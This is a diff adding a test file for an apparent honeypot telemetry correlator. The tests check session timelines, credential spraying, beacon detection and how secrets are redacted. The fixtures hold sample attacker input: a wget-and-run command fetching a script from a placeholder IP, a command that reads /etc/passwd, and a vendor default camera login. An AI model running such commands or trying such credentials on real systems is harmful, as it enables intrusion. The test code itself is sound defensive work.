@@ -1,0 +1,301 @@
+import { describe, expect, it } from 'vitest'
+import { correlate, inOrder, only, TEST_KEY, testCorrelator } from '../../test/support/correlate.js'
+import { closed, command, download, forward, login, opened } from '../../test/support/telemetry.js'
+import { createEvent } from '../events/create-event.js'
+import { computeAttackerUuid } from '../events/ids.js'
+import { type KnownSourceKind, SOURCE_KINDS } from '../events/source-kinds.js'
+import { FILE_CORRELATION, STREAM_CORRELATION } from './correlation-options.js'
+import { Correlator, SnapshotError } from './correlator.js'
+import { IdentityMembership } from './identity-membership.js'
+
+const HOUR = 3600
+
+describe('a whole session', () => {
+  const events = [
+    opened({ at: 10 }),
+    login('root', 'hunter-one', { at: 11 }),
+    login('root', 'hunter-two', { at: 12, success: true }),
+    command('cd /tmp; wget http://203.0.113.9/bin/x.sh && sh x.sh', { at: 13 }),
+    download('http://203.0.113.9/bin/x.sh?id=1', { at: 14 }),
+    forward('mx.example.net', 25, { at: 15 }),
+    closed(7.5, { at: 17 }),
+  ]
+
+  it('tells what was done, in order, without any password', () => {
+    const [whole] = only(correlate(events.toReversed()), 'session', 'whole')
+    expect(whole).toMatchObject({ sessionId: 's1', deckyId: 'decky-01', sourceIp: '198.51.100.20' })
+    expect(whole!.observedAt.toISOString()).toBe('2026-11-20T00:00:17.000Z')
+    expect(whole!.payload).toMatchObject({
+      phase: 'whole',
+      service: 'ssh',
+      duration_seconds: 7.5,
+      commands: 1,
+      failures: 1,
+      successes: 1,
+      forwards: 1,
+      forward_destinations: 1,
+    })
+    const { timeline } = whole!.payload as { timeline: { kind: string; seconds: number }[] }
+    expect(timeline.map(({ kind, seconds }) => `${seconds} ${kind}`)).toEqual([
+      '1 login',
+      '2 login',
+      '3 command',
+      '4 file',
+      '5 forward',
+    ])
+    expect(timeline[2]).toMatchObject({
+      programs: [{ name: 'cd' }, { name: 'wget' }, { name: 'sh', arguments: ['x.sh'] }],
+    })
+    expect(timeline[3]).toMatchObject({ file_names: ['x.sh'], direction: 'download' })
+    expect(JSON.stringify(whole)).not.toContain('hunter')
+  })
+
+  it('is one however its events are spread over files', () => {
+    expect(inOrder(correlate([...events.slice(4), ...events.slice(0, 4)]))).toEqual(inOrder(correlate(events)))
+  })
+
+  it('comes in a stream once its end is a horizon past, and not before', () => {
+    const correlator = testCorrelator(STREAM_CORRELATION)
+    expect(only(correlate(events, correlator, false), 'session', 'whole')).toEqual([])
+    const before = correlate([command('id', { at: 17 + 60 + 600, session: 's2' })], correlator, false)
+    expect(before).toEqual([])
+    const since = correlate([command('id', { at: 17 + 60 + 600 + 120, session: 's2' })], correlator, false)
+    expect(only(since, 'session', 'whole')).toHaveLength(1)
+  })
+
+  it('is two where two attackers, or two deckies, use one name', () => {
+    const others = [command('id', { ip: '192.0.2.7' }), command('id', { decky: 'decky-02' }), command('id', {})]
+    const whole = only(correlate(others), 'session', 'whole')
+    expect(new Set(whole.map(({ sourceId }) => sourceId)).size).toBe(3)
+  })
+})
+
+describe('credentials', () => {
+  it('are counted by the session, the hour and the day', () => {
+    const attempts = Array.from({ length: 8 }, (_, index) =>
+      login('root', `guess ${index}`, { at: index * 20 * 60, session: `s${index}` }),
+    )
+    const concluded = correlate([...attempts, ...attempts])
+    expect(only(concluded, 'credential', 'session')).toHaveLength(8)
+    expect(only(concluded, 'credential', 'hour').map(({ payload }) => payload.attempts)).toEqual([3, 3])
+    const [day] = only(concluded, 'credential', 'day')
+    expect(day!.payload).toMatchObject({
+      attempts: 8,
+      failures: 8,
+      usernames: 1,
+      passwords: 8,
+      guessed_passwords: 8,
+      passwords_per_account: 8,
+      accounts_per_password: 1,
+      burst_failures: 1,
+      sessions: 8,
+      window_seconds: 86_400,
+    })
+    expect(day!.payload.failed_session_ids).toEqual(['s0', 's1', 's2', 's3', 's4', 's5', 's6', 's7'])
+    expect(day!.observedAt.getTime()).toBe(attempts.at(-1)!.observedAt.getTime())
+  })
+
+  it('belong to the day that they were used on', () => {
+    const concluded = correlate([login('a', 'x', { at: 24 * HOUR - 1 }), login('b', 'x', { at: 24 * HOUR })])
+    expect(only(concluded, 'credential', 'day')).toHaveLength(2)
+  })
+
+  it('tell spraying from guessing', () => {
+    const spray = Array.from({ length: 9 }, (_, index) => login(`user${index}`, 'Winter2026', { at: index }))
+    expect(only(correlate(spray), 'credential', 'day')[0]!.payload).toMatchObject({
+      usernames: 9,
+      guessed_passwords: 1,
+      accounts_per_password: 9,
+    })
+  })
+
+  it('tell vendor defaults that were let in by an id, never by themselves', () => {
+    const [event] = only(correlate([login('root', 'vizxv', { success: true })]), 'credential', 'session')
+    expect(event!.payload).toMatchObject({ default_successes: 1, successes: 0, default_pair_id: 'dahua-camera' })
+    expect(JSON.stringify(event)).not.toContain('vizxv')
+  })
+
+  it('tell who was let in with what another had found', () => {
+    const concluded = correlate([
+      login('deploy', 'guess', { at: 1, ip: '192.0.2.1' }),
+      login('deploy', 'right', { at: 2, ip: '192.0.2.1', success: true }),
+      login('deploy', 'right', { at: 900, ip: '192.0.2.2', session: 's2', success: true }),
+    ])
+    const [finder, heir] = only(concluded, 'credential', 'day')
+    expect(finder!.payload).toMatchObject({ inherited_successes: 0, sources_per_pair: 2 })
+    expect(heir!.payload).toMatchObject({ inherited_successes: 1, inherited_session_ids: ['s2'] })
+  })
+
+  it('leave out keys that clients offer by themselves', () => {
+    const offer = createEvent({
+      ...login('root', ''),
+      sourceKind: 'auth_attempt',
+      payload: { service: 'ssh', method: 'publickey', username: 'root', success: false },
+      observedAt: new Date(0),
+    })
+    expect(correlate([offer])).toEqual([])
+  })
+
+  it('are estimated where one hour holds too many, within a tenth', () => {
+    const attempts = Array.from({ length: 20_000 }, (_, index) => login('root', `p${index % 50}`, { at: index / 10 }))
+    const { payload } = only(correlate(attempts), 'credential', 'hour')[0]!
+    expect(Math.abs((payload.attempts as number) / 20_000 - 1)).toBeLessThan(0.1)
+    expect(payload.failures).toBe(payload.attempts)
+    expect(payload.passwords).toBe(50)
+  })
+})
+
+describe('connections', () => {
+  it('tell on how many deckies and ports nobody tried to log in', () => {
+    const concluded = correlate([
+      opened({ at: 1, session: 'a' }),
+      opened({ at: 31, session: 'b', decky: 'decky-02' }),
+      opened({ at: 61, session: 'c', decky: 'decky-03', port: 23 }),
+      opened({ at: 91, session: 'd', decky: 'decky-04' }),
+      login('root', 'x', { at: 92, session: 'd', decky: 'decky-04' }),
+    ])
+    expect(only(concluded, 'session', 'day')[0]!.payload).toMatchObject({
+      phase: 'activity',
+      connections: 4,
+      silent_connections: 3,
+      deckies: 3,
+      ports: 2,
+      median_gap_seconds: 30,
+      session_ids: ['a', 'b', 'c'],
+    })
+  })
+
+  it('tell a rhythm of forwardings', () => {
+    const beacons = Array.from({ length: 6 }, (_, index) => forward('c2.example.net', 443, { at: index * 60 }))
+    const others = [forward('www.example.net', 80, { at: 17 })]
+    expect(only(correlate([...beacons, ...others]), 'session', 'whole')[0]!.payload).toMatchObject({
+      forwards: 7,
+      forward_destinations: 2,
+      beacon_count: 6,
+      beacon_seconds: 60,
+      beacon_jitter: 0,
+    })
+  })
+})
+
+describe('identities', () => {
+  const attackers = ['192.0.2.1', '198.51.100.2', '203.0.113.3', '2001:db8::1']
+  const membership = new IdentityMembership()
+  membership.form('0b9b5f0e-0000-4000-8000-000000000000', attackers.map(computeAttackerUuid))
+
+  it('tell what their attackers did together', () => {
+    const events = attackers.map((ip, index) =>
+      login(`user${index}`, 'Winter2026', { at: index, ip, session: `s${index}` }),
+    )
+    const stranger = login('root', 'x', { ip: '192.0.2.99' })
+    const concluded = correlate([...events, stranger], testCorrelator({}, { membership }))
+    const identities = concluded.filter(({ sourceKind }) => sourceKind === 'identity')
+    expect(identities).toMatchObject([
+      {
+        attackerUuid: null,
+        identityUuid: '0b9b5f0e-0000-4000-8000-000000000000',
+        sessionId: null,
+        payload: {
+          members: 4,
+          networks: 4,
+          attempts: 4,
+          passwords: 1,
+          accounts_per_password: 4,
+          members_per_password: 4,
+          session_ids: ['s0', 's1', 's2', 's3'],
+        },
+      },
+    ])
+  })
+
+  it('are not told where none is known', () => {
+    expect(correlate([login('a', 'b')]).filter(({ sourceKind }) => sourceKind === 'identity')).toEqual([])
+  })
+})
+
+describe('what is concluded', () => {
+  it('has only fields that its kind knows, of their types', () => {
+    const concluded = correlate([
+      opened(),
+      login('root', 'a', { at: 1 }),
+      login('root', 'vizxv', { at: 2, success: true }),
+      ...Array.from({ length: 4 }, (_, index) => forward('a.example.net', 1, { at: 10 + index })),
+      command('cat /etc/passwd > /tmp/x', { at: 20 }),
+      closed(30, { at: 30 }),
+    ])
+    expect(concluded.length).toBeGreaterThan(3)
+    for (const { sourceKind, payload } of concluded) {
+      const result = SOURCE_KINDS[sourceKind as KnownSourceKind].payload.strict().safeParse(payload)
+      expect(result.error?.issues ?? []).toEqual([])
+    }
+  })
+
+  it('is not correlated again', () => {
+    const concluded = correlate([opened(), login('root', 'a')])
+    expect(correlate(concluded)).toEqual([])
+  })
+
+  it('is nothing for kinds that tell nothing of it', () => {
+    expect(correlate([createEvent({ ...command('id'), sourceKind: 'http_request', payload: {} })])).toEqual([])
+  })
+})
+
+describe('limits', () => {
+  it('leaves out what comes behind the watermark, and counts it', () => {
+    const correlator = testCorrelator(STREAM_CORRELATION)
+    const events = [login('a', 'x', { at: 5 * HOUR }), login('b', 'x', { at: 1 * HOUR })]
+    expect(only(correlate(events, correlator), 'credential', 'day')[0]!.payload.attempts).toBe(1)
+    expect(correlator.losses).toEqual({ late: 1, evicted: 0 })
+  })
+
+  it('keeps under its cap, concludes the oldest of the flood early and spares the others', () => {
+    const memory = 200_000
+    const correlator = testCorrelator({ memory })
+    const quiet = correlate([login('root', 'a', { decky: 'quiet', ip: '192.0.2.1' })], correlator, false)
+    const seen = [...quiet]
+    for (let source = 0; source < 2000; source++) {
+      const ip = `10.${source >> 8}.${source & 255}.1`
+      seen.push(...correlate([login('root', 'a', { decky: 'loud', ip, session: `s${source}` })], correlator, false))
+      expect(correlator.bytes).toBeLessThanOrEqual(memory)
+    }
+    expect(correlator.losses.evicted).toBeGreaterThan(1000)
+    expect(seen.some(({ sourceIp }) => sourceIp === '192.0.2.1')).toBe(false)
+    const rest = correlate([], correlator)
+    expect(rest.some(({ sourceIp }) => sourceIp === '192.0.2.1')).toBe(true)
+    const days = only([...seen, ...rest], 'credential', 'day')
+    expect(new Set(days.map(({ attackerUuid }) => attackerUuid)).size).toBe(2001)
+  })
+
+  it('holds nothing once everything was concluded', () => {
+    const correlator = testCorrelator()
+    correlate([opened(), login('root', 'a'), command('id')], correlator)
+    expect(correlator.bytes).toBe(0)
+    expect(correlate([], correlator)).toEqual([])
+  })
+
+  it('lets time pass where nothing comes', () => {
+    const correlator = testCorrelator(STREAM_CORRELATION)
+    correlate([opened(), login('root', 'a', { at: 1 }), closed(3, { at: 3 })], correlator, false)
+    const told: string[] = []
+    correlator.advanceBy(15 * 60 * 1000, ({ sourceKind, payload }) =>
+      told.push(`${sourceKind} ${payload.scope ?? payload.phase}`),
+    )
+    expect(told).toEqual(['session whole', 'credential session'])
+  })
+})
+
+describe('a snapshot', () => {
+  it('is refused with another key or version', () => {
+    const snapshot = testCorrelator().snapshot()
+    const options = FILE_CORRELATION
+    expect(() => new Correlator({ options, secretKey: 'z'.repeat(40), snapshot })).toThrow(SnapshotError)
+    const future = { ...snapshot, version: 2 as 1 }
+    expect(() => new Correlator({ options, secretKey: TEST_KEY, snapshot: future })).toThrow(SnapshotError)
+  })
+
+  it('holds no secret', () => {
+    const correlator = testCorrelator()
+    correlate([login('root', 'hunter2-secret'), login('root', 'vizxv')], correlator, false)
+    expect(JSON.stringify(correlator.snapshot())).not.toMatch(/hunter2|vizxv/)
+  })
+})
